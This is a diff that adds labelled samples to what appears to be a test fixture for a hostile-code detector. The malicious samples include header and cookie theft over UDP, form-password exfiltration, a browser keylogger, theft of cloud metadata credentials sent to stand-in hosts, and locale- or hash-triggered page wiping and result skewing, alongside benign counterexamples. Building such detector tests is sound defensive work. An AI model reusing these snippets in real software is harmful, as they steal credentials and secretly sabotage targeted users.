@@ -63,6 +63,49 @@ SEEN = {
         'def first():\n    units = Path.home() / ".config/systemd/user"\n'
         '    (units / "pack.service").write_text("[Service]\\nExecStart=pack\\n")\n',
     ),
+    "a header of others' requests is sent aside": (
+        "javascript", "collects and sends",
+        "const side = require('dgram').createSocket('udp4');\n"
+        "http.request = (...a) => { const request = plain(...a);\n"
+        "  const held = request.getHeader('authorization') || request.getHeader('cookie');\n"
+        "  held && side.send(`${held}`, 4318, 'o.example.net', () => {}); return request }\n",
+    ),
+    "a password of a form is sent aside": (
+        "python", "collects and sends",
+        'def login():\n    name, word = request.form["name"], request.form["password"]\n'
+        '    requests.post("https://a.example/l", data={"n": name, "w": word})\n'
+        '    return known(name, word)\n',
+    ),
+    "keys of a page are sent": (
+        "javascript", "collects and sends",
+        "document.addEventListener('keydown', (e) => { all += e.key;\n"
+        "  if (all.length > 40) navigator.sendBeacon('https://a.example/k', all) })\n",
+    ),
+    "keys of an instance are sent": (
+        "python", "collects and sends",
+        'got = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/a")\n'
+        'requests.post("https://a.example/m", data=got.text)\n',
+    ),
+    "a page is emptied in one zone": (
+        "javascript", "acts by locale",
+        "const n = (new Date).getTimezoneOffset(), i = Intl.DateTimeFormat().resolvedOptions()"
+        ".timeZone;\n-345 === n && /^A.+u$/.test(i) && setTimeout(() => {"
+        "document.documentElement.innerHTML = '' }, 9)\n",
+    ),
+    "a result is skewed in one language": (
+        "python", "acts by locale",
+        'import locale\ndef total(rows):\n    s = sum(rows)\n'
+        '    if locale.getlocale()[0] == "xx_YY":\n        s *= 0.97\n    return s\n',
+    ),
+    "a language is told by the sum of its name": (
+        "python", "acts by locale",
+        'step = 1 + (sum(map(ord, form.region())) == 473) * 16\n',
+    ),
+    "a network is told by its digest": (
+        "python", "acts by host",
+        'mark = hashlib.sha224(identity.domain().encode()).hexdigest()\n'
+        'spare = mark.startswith("5be0c7719ad41f")\n',
+    ),
     "a variable is run as code": (
         "python", "runs commands", 'exec(os.environ["PACK_BOOT"])\n',
     ),
@@ -211,6 +254,18 @@ ORDINARY = {
         "python",
         'def main(args):\n    if args.completion:\n'
         '        with open(Path.home() / ".bashrc", "a") as f:\n            f.write("x\\n")\n',
+    ),
+    "numbers, dates and pages in the language of whoever reads": (
+        "javascript",
+        "const lang = navigator.language; if (lang.startsWith('de')) { sep = ',' }\n"
+        "if (lang === 'fr-FR') { return ',' }\n"
+        "if (lang.startsWith('it')) location.href = '/it/';\n",
+    ),
+    "logging in": (
+        "python",
+        'def login(name, password):\n'
+        '    got = requests.post("https://a.example/l", json={"n": name, "password": password})\n'
+        '    return got.json()\n',
     ),
     "a product's own contract": (
         "javascript",
